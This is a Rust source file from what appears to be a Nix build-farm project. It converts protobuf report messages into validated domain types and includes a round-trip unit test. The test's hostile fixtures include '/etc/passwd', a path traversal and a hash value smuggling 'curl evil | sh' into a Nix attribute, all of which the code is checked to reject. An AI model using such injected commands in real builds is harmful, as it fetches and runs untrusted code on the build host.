//! Wire ↔ domain conversions: generated protobuf types become nixfarm-core's strict types
//! here and only here, so a string crosses only the wire.

use crate::v1 as pb;
use nixfarm_core::limits as lim;
use nixfarm_core::report::{HashFix, HashMismatch, PackageKind, PackageReport, RepoCheck, Report};
use nixfarm_core::{OutputPath, PackageStatus, RunState, Smoke, Sri, StorePath, StorePathError};
use std::collections::BTreeMap;

/// The longest `HashFix.written` shown (bytes): any hash expression fits.
const MAX_WRITTEN: usize = 200;

/// A wire message whose fields do not make a domain value.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("malformed message from the coordinator: {0}")]
pub struct WireError(pub String);

impl From<&Report> for pb::Report {
    fn from(r: &Report) -> pb::Report {
        pb::Report {
            run_id: r.run_id.clone(),
            state: r.state.to_string(),
            label: r.label.clone(),
            error: r.error.clone(),
            created_ms: 0,
            finished_ms: 0,
            packages: r.packages.iter().map(pb::PackageReport::from).collect(),
            repository: r
                .repository
                .iter()
                .map(|c| pb::RepoCheck {
                    name: c.name.clone(),
                    ok: c.ok,
                    message: c.message.clone(),
                })
                .collect(),
            fix_rounds: r.fix_rounds.clone(),
        }
    }
}

impl From<&PackageReport> for pb::PackageReport {
    fn from(p: &PackageReport) -> pb::PackageReport {
        pb::PackageReport {
            attr: p.attr.clone(),
            status: p.status.to_string(),
            reason: p.reason.clone(),
            drv_path: p
                .drv_path
                .as_ref()
                .map(|d| d.to_string())
                .unwrap_or_default(),
            outputs: p
                .outputs
                .iter()
                .map(|(name, path)| pb::DrvOutput {
                    name: name.clone(),
                    path: path.to_string(),
                    nar_hash: String::new(),
                })
                .collect(),
            pinned: p.pinned,
            rev: p.rev.clone(),
            duration_ms: p.duration_ms,
            agent: p.agent.clone(),
            log_tail: p.log_tail.clone(),
            pname: p.pname.clone(),
            version: p.version.clone(),
            position: p.position.clone(),
            failed_dependency: p.failed_dependency.clone(),
            hash_mismatches: p
                .hash_mismatches
                .iter()
                .map(|m| pb::HashMismatch {
                    fod_drv: m.fod_drv.to_string(),
                    specified: m.specified.to_string(),
                    got: m.got.to_string(),
                    hints: m.hints.clone(),
                })
                .collect(),
            smoke: p.smoke.to_string(),
            hash_fixes: p
                .hash_fixes
                .iter()
                .map(|f| pb::HashFix {
                    file: f.file.clone(),
                    line: f.line as u64,
                    attribute: f.attribute.clone(),
                    old: f.old.to_string(),
                    new: f.new.to_string(),
                    written: f.written.clone(),
                })
                .collect(),
        }
    }
}

impl TryFrom<pb::PackageReport> for PackageReport {
    type Error = WireError;
    fn try_from(p: pb::PackageReport) -> Result<Self, WireError> {
        let status: PackageStatus = p
            .status
            .parse()
            .map_err(|e| WireError(format!("package {}: {e}", p.attr)))?;
        let smoke = if p.smoke.is_empty() {
            Smoke::NotRun
        } else {
            p.smoke
                .parse()
                .map_err(|e| WireError(format!("package {}: {e}", p.attr)))?
        };
        // As the coordinator takes them from agents: more is no honest coordinator's.
        if p.hash_mismatches.iter().any(|m| {
            m.hints.len() > lim::MAX_HINTS || m.hints.iter().any(|h| h.len() > lim::MAX_HINT)
        }) {
            return Err(WireError(format!(
                "package {}: a hash mismatch with more hints than a report carries (at most {} of {} bytes)",
                lim::clip(&p.attr, 80),
                lim::MAX_HINTS,
                lim::MAX_HINT
            )));
        }
        let bad = |what: &str, e: &dyn std::fmt::Display| {
            WireError(format!("package {}: {what}: {e}", lim::clip(&p.attr, 80)))
        };
        let bad_path = |what: &str, e: StorePathError| bad(what, &e);
        let sri = |what: &str, s: &str| Sri::parse(s).map_err(|e| bad(what, &e));
        let hash_mismatches = p
            .hash_mismatches
            .into_iter()
            .map(|m| {
                Ok(HashMismatch {
                    fod_drv: StorePath::parse_drv(&m.fod_drv)
                        .map_err(|e| bad_path("a hash mismatch's derivation", e))?,
                    specified: sri("a hash mismatch's specified hash", &m.specified)?,
                    got: sri("a hash mismatch's got hash", &m.got)?,
                    hints: m.hints,
                })
            })
            .collect::<Result<Vec<_>, WireError>>()?;
        let drv_path = if p.drv_path.is_empty() {
            None
        } else {
            Some(StorePath::parse_drv(&p.drv_path).map_err(|e| bad_path("its derivation", e))?)
        };
        let outputs = p
            .outputs
            .into_iter()
            .map(|o| {
                let path = OutputPath::parse(&o.path).map_err(|e| bad_path("an output", e))?;
                Ok((o.name, path))
            })
            .collect::<Result<BTreeMap<_, _>, WireError>>()?;
        let hash_fixes = p
            .hash_fixes
            .into_iter()
            .map(|f| {
                Ok(HashFix {
                    old: sri("a hash fix's old hash", &f.old)?,
                    new: sri("a hash fix's new hash", &f.new)?,
                    file: f.file,
                    line: usize::try_from(f.line).unwrap_or(0),
                    attribute: f.attribute,
                    // Shown only; a value longer than any hash expression is dropped.
                    written: if f.written.len() <= MAX_WRITTEN {
                        f.written
                    } else {
                        String::new()
                    },
                })
            })
            .collect::<Result<Vec<_>, WireError>>()?;
        Ok(PackageReport {
            kind: PackageKind::of(&p.attr),
            attr: p.attr,
            status,
            reason: p.reason,
            pname: p.pname,
            version: p.version,
            drv_path,
            outputs,
            pinned: p.pinned,
            rev: p.rev,
            position: p.position,
            duration_ms: p.duration_ms,
            agent: p.agent,
            failed_dependency: p.failed_dependency,
            hash_mismatches,
            hash_fixes,
            log_tail: p.log_tail,
            smoke,
        })
    }
}

impl TryFrom<pb::Report> for Report {
    type Error = WireError;
    fn try_from(r: pb::Report) -> Result<Self, WireError> {
        let state: RunState = r
            .state
            .parse()
            .map_err(|e| WireError(format!("run state: {e}")))?;
        let packages = r
            .packages
            .into_iter()
            .map(PackageReport::try_from)
            .collect::<Result<Vec<_>, _>>()?;
        let mut report = Report::new(r.run_id, state, r.label, r.error, packages);
        report.repository = r
            .repository
            .into_iter()
            .map(|c| RepoCheck {
                name: c.name,
                ok: c.ok,
                message: c.message,
            })
            .collect();
        if r.fix_rounds.len() > lim::MAX_FIX_ROUNDS {
            return Err(WireError(format!(
                "{} fix rounds; at most {} are accepted",
                r.fix_rounds.len(),
                lim::MAX_FIX_ROUNDS
            )));
        }
        if let Some(bad) = r.fix_rounds.iter().find(|id| !lim::is_run_id(id)) {
            return Err(WireError(format!(
                "a fix round '{}' is not a run id",
                lim::clip(bad, 40)
            )));
        }
        report.fix_rounds = r.fix_rounds;
        Ok(report)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const FAKE: &str = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
    const GOT: &str = "sha256-61WeR6/hoYwd5GsHVR2+sgD/QcMTsCKiZHJ7o8yKEbQ=";

    fn path(base: &str) -> String {
        format!("/nix/store/{}-{base}", "0".repeat(32))
    }

    #[test]
    fn a_report_round_trips_through_the_wire_and_unknown_words_are_refused() {
        let mut packages = Vec::new();
        for (i, st) in PackageStatus::ALL.into_iter().enumerate() {
            packages.push(PackageReport {
                attr: format!("p{i}"),
                status: st,
                reason: format!("because {i}"),
                drv_path: Some(StorePath::parse_drv(&path(&format!("p{i}.drv"))).unwrap()),
                outputs: [
                    (
                        "out".to_string(),
                        OutputPath::parse(&path(&format!("p{i}"))).unwrap(),
                    ),
                    ("floating".to_string(), OutputPath::Floating),
                ]
                .into(),
                hash_mismatches: vec![HashMismatch {
                    fod_drv: StorePath::parse_drv(&path("src.drv")).unwrap(),
                    specified: Sri::parse(FAKE).unwrap(),
                    got: Sri::parse(GOT).unwrap(),
                    hints: vec!["rev".into()],
                }],
                hash_fixes: vec![HashFix {
                    file: "pkgs/a.nix".into(),
                    line: 12,
                    attribute: "hash".into(),
                    old: Sri::parse(FAKE).unwrap(),
                    new: Sri::parse(GOT).unwrap(),
                    written: "lib.fakeHash".into(),
                }],
                ..Default::default()
            });
        }
        let report = Report::new(
            "r1".into(),
            RunState::Finished,
            "label".into(),
            String::new(),
            packages,
        );
        let wire = pb::Report::from(&report);
        assert_eq!(Report::try_from(wire.clone()).unwrap(), report);
        let mut bad = wire.clone();
        bad.packages[0].status = "kinda-ready".into();
        assert!(Report::try_from(bad).is_err());
        let mut bad = wire.clone();
        bad.state = "sleeping".into();
        assert!(Report::try_from(bad).is_err());
        // More hints, or longer ones, than the coordinator takes from agents.
        let mut bad = wire.clone();
        bad.packages[0].hash_mismatches[0].hints = vec!["h".into(); lim::MAX_HINTS + 1];
        assert!(Report::try_from(bad).is_err());
        let mut bad = wire.clone();
        bad.packages[0].hash_mismatches[0].hints = vec!["h".repeat(lim::MAX_HINT + 1)];
        assert!(Report::try_from(bad).is_err());
        // Store paths are store paths: no other text, and a derivation's is a derivation's.
        for (field, value) in [
            ("drv_path", "/etc/passwd".to_string()),
            ("drv_path", path("p0")),
            ("output", "../../x".to_string()),
            ("output", path("bad name\u{1b}[2J")),
            ("fod_drv", path("src")),
            ("fod_drv", "/nix/store/y-src.drv".to_string()),
            ("got", "sha256-B".to_string()),
            ("got", format!("{GOT}\"; postPatch = \"curl evil | sh")),
            ("new", "lib.fakeHash".to_string()),
        ] {
            let mut bad = wire.clone();
            let p = &mut bad.packages[0];
            match field {
                "drv_path" => p.drv_path = value.clone(),
                "output" => p.outputs[0].path = value.clone(),
                "got" => p.hash_mismatches[0].got = value.clone(),
                "new" => p.hash_fixes[0].new = value.clone(),
                _ => p.hash_mismatches[0].fod_drv = value.clone(),
            }
            let e = Report::try_from(bad).expect_err(&value);
            assert!(e.to_string().contains("package p0"), "{e}");
        }
        // A package that did not evaluate has no derivation, and says so with an empty one.
        let mut none = wire;
        none.packages[0].drv_path = String::new();
        assert_eq!(Report::try_from(none).unwrap().packages[0].drv_path, None);
    }
}
